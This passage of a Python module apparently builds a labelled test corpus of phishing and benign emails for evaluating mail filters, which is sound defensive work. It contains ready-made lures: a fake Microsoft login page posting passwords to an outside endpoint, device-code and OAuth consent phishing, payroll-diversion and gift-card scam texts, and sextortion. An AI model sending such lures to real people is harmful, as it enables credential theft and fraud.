"""English messages (attack 09-16, business 09-16)."""
from . import docs, ids, mime, mta, ooxml
from . import util as U
from . import world as W
from .core import (P, Msg, att, once, esc, gmail_html, outlook_alt, outlook_att, outlook_html, outlook_mixed,
                   outlook_quote_header, paras_html)
from .templates import docusign_email, ics

GB = W.OFFICES["GB"]


def _ukdate(m, *a):
    m.date = U.local("UK", *a)
    m.date_zone = "UK"


# =================================================================== ATTACKS
def a09():
    m = Msg("09-en-payroll-diversion-outlook-com.eml", "attack", "en")
    m.frm = ("Olivia Bennett", "olivia.bennett.ldn@outlook.com")
    m.to = [("Monika Strauß", "monika.strauss@example.com")]
    m.subject = "Bank details update before November payroll"
    _ukdate(m, 2026, 11, 16, 7, 41, 18)
    m.ol_server = "AS8P194MB%04d" % m.rng.randint(1000, 9999)
    m.msgid = "<%s%s@%s.EURP194.PROD.OUTLOOK.COM>" % (m.ol_server, U.hexs(m.rng, 27, True), m.ol_server)
    m.hcharset = ("iso-8859-1", "Q")
    m.fact("accounts", "Sort code: 04-00-04", "Account number: 71839204")
    text = ("Hi Monika,\n\nHope you're well. I've moved my current account to a new bank and would like my salary to "
            "be paid into the new account from the November payroll onwards, as the old one is being closed at the "
            "end of the month.\n\nNew details:\nAccount name: Olivia J Bennett\nBank: Monzo Bank\nSort code: 04-00-04\n"
            "Account number: 71839204\n\nCould you let me know once it's been updated? I'm writing from my personal "
            "address as I'm at a client's house for a valuation all day and can't get Outlook to work on my phone.\n\n"
            "Many thanks,\nOlivia\n")
    html = ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n</head>\n'
            '<body dir="ltr">\n<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, '
            'Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">\n%s\n</div>\n'
            '</body>\n</html>\n') % "\n".join("<div>%s</div>" % (esc(l) if l else "<br>") for l in text.strip().split("\n"))
    root = P("multipart/alternative", boundary=U.outlook_boundary(m.rng, 0, m.msgid.strip("<>")), children=[
        P("text/plain", text=text, charset="iso-8859-1", cte="quoted-printable"),
        P("text/html", text=html, charset="iso-8859-1", cte="quoted-printable")])
    m.what = ("Payroll diversion: 'Olivia Bennett' (London office manager) from a personal outlook.com address asks "
              "HR & Payroll to pay her November salary into a new Monzo account.")
    m.why = ("Free-mail address impersonating an employee, bank change for salary shortly before the payroll "
             "cut-off, plausible excuse for not using the work account; authentication passes for outlook.com.")
    return m.finish(mta.outlook_consumer, root)


def a10():
    m = Msg("10-en-gift-cards-ceo-gmail.eml", "attack", "en")
    m.frm = ("Konstantin Rehberg", "k.rehberg.office@gmail.com")
    m.to = [("", "olivia.bennett@example.com")]
    m.subject = "Quick favour"
    _ukdate(m, 2026, 11, 24, 10, 12, 47)
    m.msgid = U.gmail_msgid(m.rng)
    text = ("Hi Olivia,\n\nAre you in the office this morning? I need a quick favour and I'd appreciate your "
            "discretion. I want to surprise a few of our top London bidders with a small thank-you before the "
            "December sale.\n\nCould you purchase some Amazon.co.uk gift cards for me today? I'll tell you the "
            "amounts and how many once you confirm you can handle it. I'm in back-to-back meetings in Munich, so "
            "email is best for now.\n\nThanks,\nKonstantin\n")
    root = P("multipart/alternative", boundary=U.gmail_boundary(m.rng), children=[
        P("text/plain", text=text, charset="UTF-8", cte="7bit"),
        P("text/html", text=gmail_html(text), charset="UTF-8", cte="7bit")])
    m.what = ("Gift-card scam opener: the 'CEO' writes from a Gmail address to the London office manager asking her "
              "to buy Amazon gift cards discreetly 'for top bidders'.")
    m.why = ("CEO display name on a free-mail address, secrecy and urgency, unusual purchase request, no phone "
             "contact; no links or attachments for a filter to catch.")
    return m.finish(mta.gmail, root)


def a11():
    m = Msg("11-en-docusign-abuse-revised-terms.eml", "attack", "en")
    sname, semail = "Pemberton Lyle Probate", "pembertonlyle.probate@gmail.com"
    m.frm = ("%s via Docusign" % sname, "dse@eumail.docusign.net")
    m.reply_to = [(sname, semail)]
    m.to = [("Harriet Lowe", "harriet.lowe@example.com")]
    m.subject = "Complete with Docusign: Harcourt Estate – Revised Consignment & Settlement Terms.pdf"
    _ukdate(m, 2026, 12, 3, 14, 22, 8)
    m.msgid = "<%s@docusign.net>" % U.hexs(m.rng, 32)
    msg = ("Further to the executors' meeting, please review and sign the revised consignment and settlement terms for "
           "the Harcourt Estate before Friday, so that the proceeds of the 8 December sale can be released to the "
           "executors' new client account.\n\nKind regards,\nEleanor Marsh\nPemberton Lyle LLP")
    root, link = docusign_email(m, sname, semail, "Harriet Lowe", msg,
                                "Harcourt Estate – Revised Consignment & Settlement Terms.pdf")
    m.envfrom = "bounces+%s@eumail.docusign.net" % U.hexs(m.rng, 16)
    m.what = ("Real DocuSign envelope sent from an attacker-controlled DocuSign account named 'Pemberton Lyle "
              "Probate' (gmail.com sender) asking the specialist to sign 'revised settlement terms' that redirect "
              "estate proceeds to a 'new client account'.")
    m.why = ("Abuse of the genuine DocuSign platform (all authentication passes): the sender identity inside the "
             "envelope is a Gmail address instead of the solicitors' domain, topic is a payment-route change shortly "
             "before the sale, and it follows the genuine October envelope of the same firm.")
    return m.finish(mta.docusign, root)


def a12():
    m = Msg("12-en-html-attachment-remittance-compromised.eml", "attack", "en")
    m.frm = ("Ashcombe Fine Art Accounts", "accounts@ashcombefineart.co.uk")
    m.to = [("", "james.whitfield@example.com")]
    m.subject = "Remittance Advice - ASH-PAY-88214"
    _ukdate(m, 2026, 12, 15, 11, 3, 26)
    m.msgid = U.gmail_msgid(m.rng).replace("@mail.gmail.com", "@mail.gmail.com")
    action = "https://remit-docview.pages.dev/api/session"
    text = ("Hello,\n\nPlease see attached remittance advice for the payment made today.\n\nKind regards\n\n"
            "Accounts Department\nAshcombe Fine Art Ltd\n6 Ryder Street, London SW1Y 6QB\n+44 20 7839 6210\n")
    page = ('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Remittance Advice - '
            'ASH-PAY-88214</title>\n<meta name="viewport" content="width=device-width, initial-scale=1">\n<style>\n'
            'body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1 url("https://aadcdn.msftauth.net/'
            'shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg") no-repeat center/cover}\n'
            '.box{width:360px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}\n'
            'h1{font-size:24px;font-weight:600;margin:16px 0}\ninput{width:100%;border:none;border-bottom:1px solid '
            '#666;padding:6px 0;font-size:15px;margin-bottom:18px}\nbutton{background:#0067b8;color:#fff;border:0;'
            'padding:8px 32px;float:right}\n.doc{font-size:13px;color:#444;background:#f7f7f7;padding:10px;'
            'margin-bottom:16px}\n</style>\n</head>\n<body>\n<div class="box">\n<img src="https://aadcdn.msftauth.net/'
            'shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108" alt="Microsoft">\n'
            '<h1>Verify your identity</h1>\n<div class="doc">Secure document: Remittance_Advice_ASH-PAY-88214.pdf '
            '(GBP 48,250.00)<br>Shared by accounts@ashcombefineart.co.uk</div>\n<form method="post" action="{ACTION}">\n'
            '<input type="email" name="login" value="james.whitfield@example.com" readonly>\n<input type="password" '
            'name="passwd" placeholder="Password" required>\n<input type="hidden" name="ref" value="ASH-PAY-88214">\n'
            '<button type="submit">Sign in</button>\n</form>\n<p style="clear:both;font-size:12px;color:#666;'
            'padding-top:20px">Because you\'re accessing sensitive info, you need to verify your password.</p>\n'
            '</div>\n<!-- INERT TEST SAMPLE: real kits add obfuscated JavaScript that exfiltrates the form; omitted. -->\n'
            '</body>\n</html>\n').replace("{ACTION}", action)
    root = P("multipart/mixed", boundary=U.gmail_boundary(m.rng), children=[
        P("multipart/alternative", boundary=U.gmail_boundary(m.rng), children=[
            P("text/plain", text=text, charset="UTF-8", cte="7bit"),
            P("text/html", text=gmail_html(text), charset="UTF-8", cte="7bit")]),
        att("text/html", page.encode("utf-8"), "Remittance_Advice_ASH-PAY-88214.htm", fn_style="plain",
            order=["Content-Type", "Content-Disposition", "Content-Transfer-Encoding", "Content-ID", "X-Attachment-Id"])])
    xid = "f_%s" % U.alnum(m.rng, 9, "abcdefghijklmnopqrstuvwxyz0123456789")
    root.children[1].cid = xid
    root.children[1].extra = [("X-Attachment-Id", xid)]
    m.fact("phones", "+44 20 7839 6210")
    m.what = ("HTML-attachment credential phish from the compromised accounts mailbox of a London dealer client: "
              "'remittance advice' .htm renders a fake Microsoft sign-in with the recipient's address pre-filled, "
              "posting the password to a Cloudflare Pages endpoint.")
    m.why = ("Sent through the client's real Google Workspace (DKIM/DMARC pass) but composed in Gmail web instead of "
             "their Xero remittances, .htm attachment containing a password form posting to pages.dev, amount "
             "does not match any open invoice.")
    return m.finish(mta.gmail, root, workspace=True)


def a13():
    m = Msg("13-en-device-code-phish-compromised-carrow.eml", "attack", "en")
    m.frm = ("Rachel Dunmore", "rachel.dunmore@carrow-engineering.co.uk")
    m.to = [("Andreas Kettl", "andreas.kettl@example.com")]
    m.subject = "RE: ITT CE-2026-117 – clarification call / updated asset register"
    m.thread_topic = "ITT CE-2026-117 – clarification call / updated asset register"
    _ukdate(m, 2026, 11, 20, 14, 36, 2)
    m.ol_server = "LO2P265MB4406"
    m.msgid = U.outlook_msgid(m.rng, m.ol_server, "GBR")
    m.in_reply_to = b15().msgid
    m.references = m.in_reply_to
    m.content_lang = "en-GB"
    m.accept_lang = "en-GB, en-US"
    code = "HQ7ZKD4WM"
    m.fact("other", "Device code: %s" % code)
    text = ("Hi Andreas,\n\nThanks for your questions on the ITT. To save time I've put the updated asset register "
            "(incl. the spindle hours for the Mazak and the CMM calibration certificates) in our secure document "
            "area. As it contains commercially sensitive information, access is protected by Microsoft "
            "verification.\n\nTo open it:\n1. Go to https://microsoft.com/devicelogin\n2. Enter the code %s\n"
            "3. Sign in with your Example Group account\n\nThe code is only valid for 15 minutes, so if it has "
            "expired just reply and I'll generate a new one straight away.\n\nI've also sent you an invite for "
            "Monday's clarification call.\n\nKind regards,\nRachel\n\nRachel Dunmore\nProcurement Manager\n"
            "Carrow Engineering Ltd\nHellesdon Park Road, Norwich NR6 5DR\nT: +44 1603 418 900\n") % code
    html = outlook_html(text, "utf-8", "EN-GB", font="Aptos")
    alt = outlook_alt(m, text, html, "utf-8")
    cal = ics("040000008200E00074C5B7101A82E00800000000%s" % U.hexs(m.rng, 32, True),
              ("Rachel Dunmore", "rachel.dunmore@carrow-engineering.co.uk"), [("Andreas Kettl", "andreas.kettl@example.com")],
              "20261123T110000", "20261123T113000", "ITT CE-2026-117 clarification call",
              "Microsoft Teams Meeting",
              "Before the call please open the updated asset register: go to https://microsoft.com/devicelogin "
              "and enter the code %s (valid 15 minutes). Sign in with your work account.\n\nRachel" % code,
              U.dstr(m.date, "UTC", "%Y%m%dT%H%M%SZ"), tzid="GMT Standard Time")
    calp = P("text/calendar", data=cal.encode("utf-8"), filename="invite.ics", disposition="attachment",
             cte="base64", params=["method=REQUEST", 'charset="utf-8"'], fn_style="plain")
    root = outlook_mixed(m, alt, [calp])
    m.what = ("Device-code phishing from the compromised Microsoft 365 mailbox of a real tender client: 'open the "
              "asset register' by entering a code at microsoft.com/devicelogin, which would grant the attacker "
              "tokens for the recipient's account; calendar invite repeats the instructions.")
    m.why = ("Genuine sender infrastructure and thread context, but a device-code login for a 'document' is never "
             "legitimate, 15-minute pressure and 'I'll generate a new one' (attacker polling), URL is Microsoft's "
             "own so link reputation is clean.")
    return m.finish(mta.m365, root, region="GBR", lang="en", tenant_id=W.CARROW["tenant"])


def a14():
    m = Msg("14-en-copyright-notice-dropbox-link.eml", "attack", "en")
    m.frm = ("Marta Ellison", "marta.ellison.photo@gmail.com")
    m.to = [("", "sophie.lindner@example.com")]
    m.subject = "Copyright infringement – unlicensed use of my photographs (Sale 2611 catalogue)"
    _ukdate(m, 2026, 10, 14, 9, 27, 51)
    m.msgid = U.gmail_msgid(m.rng)
    url = ("https://www.dropbox.com/scl/fi/8qv2lz5p0r7x4kw1m3ntc/Evidence_Copyright_Images_ExampleGroup.zip"
           "?rlkey=h2m4d9x7q1s0c5v8n3b6kzt1w&st=p7cq2w9e&dl=1")
    text = ("Dear Sir or Madam,\n\nI am a professional photographer and the author of several photographs of "
            "paintings and interiors that I produced on commission in 2023. I have discovered that at least seven "
            "of my images are being used without a licence in your online catalogue and in the printed catalogue "
            "for your sale \"Alte Meister & Gemälde des 19. Jahrhunderts\" (Sale 2611), as well as on your social "
            "media channels.\n\nI have collected the evidence (screenshots with URLs and dates, and my original RAW "
            "files with metadata) here:\n%s\n\nPlease remove the images within 5 working days and contact me to "
            "agree a retroactive licence fee. If I do not hear from you, I will have no choice but to instruct my "
            "solicitors and file takedown requests with your hosting provider.\n\nRegards,\nMarta Ellison\n"
            "Marta Ellison Photography\n" % url)
    root = P("multipart/alternative", boundary=U.gmail_boundary(m.rng), children=[
        P("text/plain", text=text, charset="UTF-8", cte="quoted-printable"),
        P("text/html", text=gmail_html(text).replace(esc(url), '<a href="%s">%s</a>' % (
            url.replace("&", "&amp;"), esc(url))), charset="UTF-8", cte="quoted-printable")])
    m.what = ("Fake copyright-infringement notice to marketing from a Gmail 'photographer': the 'evidence' is a "
              "Dropbox-hosted ZIP (dl=1 direct download) that in the real campaigns contains an infostealer loader.")
    m.why = ("Legal-threat lure with deadline, free-mail sender, download of an archive from a file-sharing platform "
             "(Dropbox link, clean reputation), vague claims tailored to the current catalogue.")
    return m.finish(mta.gmail, root)


def a15():
    m = Msg("15-en-sextortion-spoofed-self-btc.eml", "attack", "en")
    me = "james.whitfield@example.com"
    m.frm = ("", me)
    m.to = [("", me)]
    m.subject = "james.whitfield - Your account is hacked! Renew the pass immediately!"
    m.date = U.local("BRT", 2026, 10, 7, 3, 14, 26)
    m.date_zone = "BRT"
    m.date_rcv = U.add(m.date, 31)
    m.msgid = "<%s@example.com>" % U.hexs(m.rng, 20, True)
    prog = bytes(m.rng.getrandbits(8) for _ in range(20))
    wallet = ids.bech32_address(prog)
    m.fact("wallets", wallet)
    text = ("Hello!\n\nI am a hacker who has access to your operating system.\nI also have full access to your "
            "account james.whitfield@example.com.\n\nI've been watching you for a few months now.\nThe fact is that "
            "you were infected with malware through an adult site that you visited.\n\nIf you are not familiar with "
            "this, I will explain.\nTrojan Virus gives me full access and control over a computer or other device.\n"
            "This means that I can see everything on your screen, turn on the camera and microphone, but you do not "
            "know about it.\n\nI also have access to all your contacts and all your correspondence.\n\nI made a "
            "video showing how you satisfy yourself in the left half of the screen, and in the right half you see "
            "the video that you watched.\nWith one click of the mouse, I can send this video to all your emails and "
            "contacts on social networks.\n\nIf you want to prevent this, transfer the amount of $1450 to my bitcoin "
            "address (if you do not know how to do this, write to Google: \"Buy Bitcoin\").\n\nMy bitcoin address "
            "(BTC Wallet) is: %s\n\nAfter receiving the payment, I will delete the video and you will never hear me "
            "again.\nI give you 50 hours (more than 2 days) to pay.\nI have a notice reading this letter, and the "
            "timer will work when you see this letter.\n\nFiling a complaint somewhere does not make sense because "
            "this email cannot be tracked like my bitcoin address.\nI do not make any mistakes.\n\nIf I find that "
            "you have shared this message with someone else, the video will be immediately distributed.\n\n"
            "Best regards!\n" % wallet)
    root = P("text/plain", text=text, charset="utf-8", cte="base64")
    m.envfrom = "bounce@lojaverdemar.com.br"
    m.what = ("Classic sextortion spam with the recipient's own address spoofed as sender, demanding USD 1450 to a "
              "Bitcoin bech32 address within 50 hours.")
    m.why = ("From = To = own address but sent by a bot from a residential IP with unrelated envelope sender "
             "(SPF none for that domain, DMARC fail for example.com), no TLS, extortion text and crypto wallet.")
    return m.finish(mta.direct_bot, root, helo="lojaverdemar.com.br", rdns="unknown", ip="203.0.113.188",
                    spf="none", order=["Date", "From", "To", "Subject", "Message-ID", "MIME-Version", "__MIME__",
                                       "=X-Priority: 3", "=X-Mailer: Microsoft Outlook Express 6.00.2900.5512"])


def a16():
    m = Msg("16-en-oauth-consent-bidvera-lookalike.eml", "attack", "en")
    m.frm = ("Bidvera Live", "no-reply@bidvera-live.com")
    m.reply_to = [("Bidvera Partner Success", "partners@bidvera-live.com")]
    m.to = [("Katharina Seidl", "katharina.seidl@examplegroup.eu")]
    m.subject = "Action required: connect Microsoft 365 to the Bidvera Live Console by 30 November"
    _ukdate(m, 2026, 11, 23, 9, 5, 12)
    m.msgid = "<%s.%s@mg.bidvera-live.com>" % (U.dstr(m.date, "UTC", "%Y%m%d%H%M%S"), U.hexs(m.rng, 16))
    client = U.uuid4(m.rng)
    state = U.b64(m.rng, 24, urlsafe=True)
    url = ("https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code"
           "&redirect_uri=https%%3A%%2F%%2Fconsole.bidvera-live.com%%2Fauth%%2Fcallback&response_mode=query"
           "&scope=offline_access%%20Mail.ReadWrite%%20Mail.Send%%20Calendars.ReadWrite%%20Files.Read.All%%20User.Read"
           "&state=%s&prompt=consent" % (client, state))
    unsub = "https://console.bidvera-live.com/preferences/unsubscribe?u=%s" % U.hexs(m.rng, 20)
    text = ("Hello Katharina,\n\nFrom 1 December 2026 the Bidvera Live Console will sync auction schedules, absentee "
            "bids and client messages directly with your Microsoft 365 mailbox and calendar. To keep your live sales "
            "running without interruption, please connect your organisation's account before 30 November.\n\n"
            "Connect Microsoft 365:\n%s\n\nYou'll be asked to sign in with your work account and to review the "
            "permissions requested by \"Bidvera Live Console\". Accounts that are not connected will switch to "
            "read-only mode, and absentee bids will no longer be transferred to your auctioneer screen.\n\n"
            "Kind regards,\nThe Bidvera Partner Success Team\n\nBidvera Technologies Ltd · Grand Canal Square 3 · "
            "Dublin 2 · Ireland\nUnsubscribe: %s\n") % (url, unsub)
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
            '</head><body style="margin:0;background:#f2f4f7;font-family:Helvetica,Arial,sans-serif">'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 12px">'
            '<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px">'
            '<tr><td style="background:#0e2a47;padding:18px 28px;color:#ffffff;font-size:20px;font-weight:bold;'
            'letter-spacing:1px">bidvera<span style="color:#f5a623">.</span> <span style="font-weight:normal;'
            'font-size:13px">Live Console</span></td></tr><tr><td style="padding:28px;font-size:15px;line-height:22px;'
            'color:#1d2939"><p>Hello Katharina,</p><p>From 1 December 2026 the Bidvera Live Console will sync auction '
            'schedules, absentee bids and client messages directly with your Microsoft 365 mailbox and calendar. To '
            'keep your live sales running without interruption, please connect your organisation\'s account before '
            '<b>30 November</b>.</p><p style="text-align:center;padding:10px 0"><a href="%s" style="background:#f5a623;'
            'color:#0e2a47;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:bold">Connect '
            'Microsoft 365</a></p><p>You\'ll be asked to sign in with your work account and to review the permissions '
            'requested by &quot;Bidvera Live Console&quot;. Accounts that are not connected will switch to read-only '
            'mode, and absentee bids will no longer be transferred to your auctioneer screen.</p><p>Kind regards,<br>'
            'The Bidvera Partner Success Team</p></td></tr><tr><td style="padding:16px 28px;font-size:11px;'
            'color:#98a2b3;border-top:1px solid #eaecf0">Bidvera Technologies Ltd &middot; Grand Canal Square 3 &middot; '
            'Dublin 2 &middot; Ireland<br><a href="%s" style="color:#98a2b3">Unsubscribe</a></td></tr></table></td>'
            '</tr></table></body></html>\n') % (url.replace("&", "&amp;"), unsub)
    root = P("multipart/alternative", boundary=U.hexs(m.rng, 32), children=[
        P("text/plain", text=text, charset="utf-8", cte="quoted-printable"),
        P("text/html", text=html, charset="utf-8", cte="quoted-printable")])
    m.envfrom = "bounce+%s.%s-katharina.seidl=examplegroup.eu@mg.bidvera-live.com" % (U.hexs(m.rng, 6), U.hexs(m.rng, 6))
    m.what = ("OAuth consent phishing: look-alike 'Bidvera Live' (bidvera-live.com via Mailgun) asks the head of sales "
              "to 'connect Microsoft 365'; the button is a genuine login.microsoftonline.com authorize URL for an "
              "attacker app requesting Mail.ReadWrite, Mail.Send, Files.Read.All and offline_access.")
    m.why = ("Look-alike of the real platform (bidvera.com), consent grant gives persistent mailbox access without a "
             "password, redirect_uri on the look-alike domain, read-only threat and deadline; link host itself is "
             "Microsoft so reputation checks pass.")
    return m.finish(mta.mailgun, root, mg_domain="mg.bidvera-live.com",
                    extra=["X-Mailgun-Tag: partner-migration", "X-Mailgun-Track-Clicks: false"])


# =================================================================== BUSINESS
def b09():
    m = Msg("09-en-docusign-consignment-pemberton-lyle.eml", "business", "en")
    sname, semail = "Eleanor Marsh", "eleanor.marsh@pembertonlyle.co.uk"
    m.frm = ("%s via Docusign" % sname, "dse@eumail.docusign.net")
    m.reply_to = [(sname, semail)]
    m.to = [("Harriet Lowe", "harriet.lowe@example.com")]
    m.subject = "Please DocuSign: Harcourt Estate - Consignment Agreement (Example Group Auctions Ltd).pdf"
    _ukdate(m, 2026, 10, 22, 15, 48, 19)
    m.msgid = "<%s@docusign.net>" % U.hexs(m.rng, 32)
    msg = ("Dear Harriet,\n\nAs discussed with the executors, please find the consignment agreement for the contents "
           "of Harcourt House for signature on behalf of Example Group Auctions Ltd. Schedule B lists the 143 lots "
           "agreed at the valuation meeting.\n\nMany thanks,\nEleanor")
    root, link = docusign_email(m, sname, semail, "Harriet Lowe", msg,
                                "Harcourt Estate - Consignment Agreement (Example Group Auctions Ltd).pdf")
    m.envfrom = "bounces+%s@eumail.docusign.net" % U.hexs(m.rng, 16)
    m.what = ("Genuine DocuSign envelope from the probate solicitors' associate with the consignment agreement for "
              "the Harcourt estate.")
    m.why = ("DocuSign infrastructure, sender identity is the solicitor's own domain, content follows the valuation "
             "meeting and the Mimecast e-mail of 15 October, no payment change.")
    m.hard_negative_of = (["attack/11-en-docusign-abuse-revised-terms.eml",
                           "attack/36-el-adobe-sign-abuse-oroi-pliromis.eml"],
                          "E-signature request from the platform itself. Genuine: sender identity on the firm's own "
                          "domain, expected agreement. Attack: attacker's platform account on Gmail, 'revised terms' "
                          "redirecting money.")
    return m.finish(mta.docusign, root)


def b10():
    m = Msg("10-en-probate-inventory-mimecast.eml", "business", "en")
    m.frm = ("Eleanor Marsh", "eleanor.marsh@pembertonlyle.co.uk")
    m.to = [("Harriet Lowe", "harriet.lowe@example.com")]
    m.cc = [("Daniel Okafor", "daniel.okafor@pembertonlyle.co.uk")]
    m.subject = "Estate of the late Lady Margaret Harcourt – probate inventory and collection arrangements"
    _ukdate(m, 2026, 10, 15, 12, 4, 37)
    m.ol_server = "LO4P265MB%04d" % m.rng.randint(1000, 9999)
    m.msgid = U.outlook_msgid(m.rng, m.ol_server, "GBR")
    m.content_lang = "en-GB"
    m.fact("phones", "+44 20 7405 3318")
    text = ("Dear Harriet,\n\nThank you for your time at Harcourt House on Tuesday. As promised, I attach the probate "
            "inventory (Schedule B) prepared for HMRC, with the items the executors would like to consign marked in "
            "column F. The family wish to retain the portraits in the library and the longcase clock.\n\nThe "
            "executors are content for your shippers to collect on 2 or 3 November; the housekeeper, Mrs Doyle, will "
            "be on site from 8.30am. Please liaise with Daniel (copied) on access and insurance.\n\nWe will send the "
            "consignment agreement for signature via DocuSign once the schedule is agreed.\n\nKind regards,\n\n"
            "Eleanor Marsh\nSenior Associate, Private Client\nPemberton Lyle LLP\n14 Bedford Row, London WC1R 4ED\n"
            "T +44 20 7405 3318\n\nPemberton Lyle LLP is a limited liability partnership registered in England and "
            "Wales (OC318472) and is authorised and regulated by the Solicitors Regulation Authority (SRA No. "
            "641872). Please note that we will never notify you of changes to our bank details by email. If you "
            "receive such an email, please call us on a known number before making any payment.\n")
    html = outlook_html(text, "utf-8", "EN-GB", font="Aptos")
    alt = outlook_alt(m, text, html, "utf-8")
    rows = [["Ref", "Description", "Room", "Probate value GBP", "Condition", "Consign (Y/N)"]]
    items = [("George III mahogany partners' desk, c. 1780", "Library", 6500), ("Pair of Regency ormolu-mounted "
             "candelabra", "Drawing room", 3200), ("Chinese export famille rose punch bowl, Qianlong", "Drawing room",
                                                     4800), ("Victorian walnut Davenport", "Morning room", 900),
             ("English School, portrait of a lady, oil on canvas", "Library", 2500),
             ("Set of eight George III dining chairs", "Dining room", 5400),
             ("Longcase clock, Thomas Tompion style, 18th century", "Hall", 7800),
             ("Persian Heriz carpet, 412 x 318 cm", "Drawing room", 2800)]
    for i in range(1, 25):
        d, room, val = items[(i - 1) % len(items)]
        keep = "N" if ("portrait" in d or "Longcase" in d) else "Y"
        rows.append(["B%03d" % i, d, room, float(val + m.rng.randint(-3, 3) * 100), "Good, wear consistent with age",
                     keep])
    xl = ooxml.xlsx([("Schedule B", rows)], "Harcourt probate inventory Schedule B", "Eleanor Marsh",
                    "2026-10-14T16:40:00Z", (2026, 10, 14, 17, 40, 0), "Pemberton Lyle LLP")
    root = outlook_mixed(m, alt, [outlook_att("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                                              xl, "Harcourt_Probate_Inventory_Schedule_B.xlsx", m.date, "UK")])
    m.what = ("Probate solicitors send the inventory (XLSX) of an estate to be consigned and arrange the collection; "
              "sent via Microsoft 365 and Mimecast.")
    m.why = ("Known law firm, Mimecast outbound with DKIM/DMARC pass, content matches the valuation visit, spreadsheet "
             "without macros, standard anti-fraud disclaimer about bank details.")
    return m.finish(mta.mimecast_m365, root, tenant_id="5e2d8c41-6b7a-4f09-9c3e-2a1f7d8b6e54")


def b11():
    m = Msg("11-en-microsoft-account-security-info-added.eml", "business", "en")
    m.frm = ("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com")
    m.to = [("", "lukas.engelhardt@example.com")]
    m.subject = "Microsoft account security info was added"
    m.date = U.local("CET", 2026, 11, 2, 9, 31, 6)
    m.date_zone = "UTC"
    m.ol_server = "BN0PR11MB%04d" % m.rng.randint(1000, 9999)
    m.msgid = "<%s.%s@%s.namprd11.prod.outlook.com>" % (U.hexs(m.rng, 8, True), U.hexs(m.rng, 12, True),
                                                       m.ol_server)
    m.msgid = "<%s%s@%s.namprd11.prod.outlook.com>" % (m.ol_server, U.hexs(m.rng, 27, True), m.ol_server)
    m.content_lang = "en-US"
    m.accept_lang = "en-US"
    l1 = "https://account.live.com/proofs/Manage?mkt=en-US&uaid=%s" % U.hexs(m.rng, 32)
    l2 = "https://account.live.com/SecurityNotifications/Update"
    l3 = "https://go.microsoft.com/fwlink/?LinkId=521839"
    text = ("Microsoft account\n\nSecurity info was added\n\nThe following security info was recently added to the "
            "Microsoft account lu*****@example.com:\n\nAuthenticator app (Pixel 8a)\n\nIf you added this security "
            "info, you can safely disregard this email.\n\nIf you didn't add this security info, someone might be "
            "using your account. Please remove it immediately: %s\n\nTo opt out or change where you receive "
            "security notifications, click here: %s\n\nThanks,\nThe Microsoft account team\n\nPrivacy Statement: %s\n"
            "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n") % (l1, l2, l3)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">'
            '<table dir="ltr"><tr><td style="padding:0;font-family:\'Segoe UI Semibold\',\'Segoe UI Bold\','
            '\'Segoe UI\',\'Helvetica Neue Medium\',Arial,sans-serif;font-size:17px;color:#707070">Microsoft account'
            '</td></tr><tr><td style="padding:0;font-family:\'Segoe UI Light\',\'Segoe UI\',\'Helvetica Neue Medium\','
            'Arial,sans-serif;font-size:41px;color:#2672ec">Security info was added</td></tr><tr><td style="padding:0;'
            'padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">'
            'The following security info was recently added to the Microsoft account <a dir="ltr" '
            'style="color:#2672ec;text-decoration:none" href="mailto:lu*****@example.com">lu*****@example.com</a>:'
            '</td></tr><tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,'
            'sans-serif;font-size:14px;color:#2a2a2a">Authenticator app (Pixel 8a)</td></tr><tr><td style="padding:0;'
            'padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">'
            'If you added this security info, you can safely disregard this email.</td></tr><tr><td style="padding:0;'
            'padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">'
            'If you didn\'t add this security info, someone might be using your account. Please <a '
            'style="color:#2672ec;text-decoration:none" href="%s">remove it</a> immediately.</td></tr><tr><td '
            'style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;'
            'color:#2a2a2a">To opt out or change where you receive security notifications, <a style="color:#2672ec;'
            'text-decoration:none" href="%s">click here</a>.</td></tr><tr><td style="padding:0;padding-top:25px;'
            'font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a">Thanks,</td></tr>'
            '<tr><td style="padding:0;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;'
            'color:#2a2a2a">The Microsoft account team</td></tr></table><table dir="ltr" style="padding-top:25px">'
            '<tr><td style="font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:12px;color:#707070">'
            '<a href="%s" style="color:#707070">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, '
            'Redmond, WA 98052</td></tr></table></body></html>\n') % (l1.replace("&", "&amp;"), l2, l3)
    root = P("multipart/alternative", boundary="--boundary_%d_%s" % (m.rng.randint(1000, 99999), U.uuid4(m.rng)),
             children=[P("text/plain", text=text, charset="utf-8", cte="quoted-printable"),
